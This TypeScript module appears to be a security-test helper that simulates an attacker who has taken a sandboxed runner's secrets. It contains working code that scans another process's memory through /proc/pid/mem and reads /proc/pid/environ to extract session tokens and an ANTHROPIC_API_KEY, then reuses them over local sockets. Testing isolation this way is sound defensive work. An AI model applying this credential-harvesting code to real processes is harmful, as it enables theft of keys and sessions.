/** What somebody who got hold of a runner's secrets could do with them, over the sockets that its sandbox sees. */
import { closeSync, openSync, readFileSync, readSync } from "node:fs";
import { request } from "node:http";
import net from "node:net";
import { createClient } from "@connectrpc/connect";
import { createConnectTransport } from "@connectrpc/connect-node";
import { RunnerService } from "../../gen/carrel/runner/v1/runner_service_pb.ts";
import type { Installation } from "./carrel.ts";
import { processOf } from "./sandboxes.ts";

export type Stolen = { sessionId: string; epoch: number; attach: string; lease: string; phantom: string };

/** The secrets of a session's runner, out of the memory of its processes. Needs root. */
export async function steal(installation: Installation, sessionId: string): Promise<Stolen> {
  const { db } = installation.database;
  const { epoch } = await db.selectFrom("session").select("epoch").where("id", "=", sessionId).executeTakeFirstOrThrow();
  const memory = findInMemory(await processOf(installation, sessionId, "runner"), /c[al]t_[A-Za-z0-9_-]{43}/g);
  const environment = readFileSync(`/proc/${await processOf(installation, sessionId, "claude")}/environ`, "latin1");
  const phantom = /ANTHROPIC_API_KEY=([^\0]+)/.exec(environment)?.[1];
  const [attach, lease] = ["cat_", "clt_"].map((prefix) => memory.find((token) => token.startsWith(prefix)));
  if (!phantom || !lease || !attach) throw new Error(`not all secrets of ${sessionId} were found`);
  return { sessionId, epoch, attach, lease, phantom };
}

function findInMemory(pid: number, pattern: RegExp): string[] {
  const memory = openSync(`/proc/${pid}/mem`, "r");
  try {
    const writable = readFileSync(`/proc/${pid}/maps`, "utf8").matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm);
    return [...writable].flatMap(([, from, to]) => {
      const start = Number.parseInt(from!, 16);
      return [
        ...readAt(memory, start, Number.parseInt(to!, 16) - start)
          .toString("latin1")
          .matchAll(pattern),
      ].map(([found]) => found);
    });
  } finally {
    closeSync(memory);
  }
}

function readAt(file: number, position: number, length: number): Buffer {
  const buffer = Buffer.alloc(length);
  try {
    return buffer.subarray(0, readSync(file, buffer, 0, length, position));
  } catch (error) {
    // Some mappings are nobody's to read.
    if (["EIO", "EFAULT", "EINVAL"].includes((error as NodeJS.ErrnoException).code ?? "")) return Buffer.alloc(0);
    throw error;
  }
}

/** A runner's client for whoever holds its lease. */
export function runnerOver(socketPath: string, { lease }: Stolen) {
  const transport = createConnectTransport({
    baseUrl: "http://carrel.internal",
    httpVersion: "2",
    useBinaryFormat: true,
    nodeOptions: { createConnection: () => net.connect(socketPath) },
    interceptors: [
      (next) => (call) => {
        call.header.set("authorization", `Bearer ${lease}`);
        return next(call);
      },
    ],
  });
  return createClient(RunnerService, transport);
}

/** One request to the model gateway; answers the status. */
export function askModel(socketPath: string, { phantom }: Stolen): Promise<number> {
  const body = JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 10, messages: [{ role: "user", content: "[[text stolen]]" }] });
  const headers = {
    "x-api-key": phantom,
    "anthropic-version": "2023-06-01",
    "content-type": "application/json",
    "content-length": body.length,
  };
  return new Promise((resolve, reject) => {
    const call = request({ socketPath, method: "POST", path: "/v1/messages", headers }, (answer) => {
      answer.resume().on("end", () => resolve(answer.statusCode ?? 0));
    });
    call.on("error", reject);
    call.end(body);
  });
}
